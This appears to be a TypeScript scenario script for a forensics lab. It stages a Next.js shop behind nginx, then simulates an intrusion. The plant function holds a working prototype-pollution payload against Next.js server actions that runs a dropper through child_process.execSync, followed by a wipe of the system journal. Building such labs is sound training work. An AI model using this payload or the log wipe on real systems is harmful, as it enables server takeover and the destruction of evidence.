// nginx sees a POST, pm2 keeps what the server printed.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { nginx } from '../../nginx.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  nginx(dress, 'location / { proxy_pass http://127.0.0.1:3000; }')
  dress.enable('nginx')
  dress.toy({ unit: 'shop', user: 'shop', exe: '/usr/bin/node', title: 'next-server (v15.1.6)', home: '/srv/shop', play: 'next' })
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/srv/shop/.next/cache/kal' })
  await stage.scan('203.0.113.44')
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.57',
    '/',
    `------x\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.mainModule.require('child_process').execSync('${line}');","_formData":{"get":"$1:constructor:constructor"}}}\r\n------x--\r\n`,
    { 'Next-Action': 'x', 'Content-Type': 'multipart/form-data; boundary=----x' },
  )
  await wipe(stage, ['journal'])
}
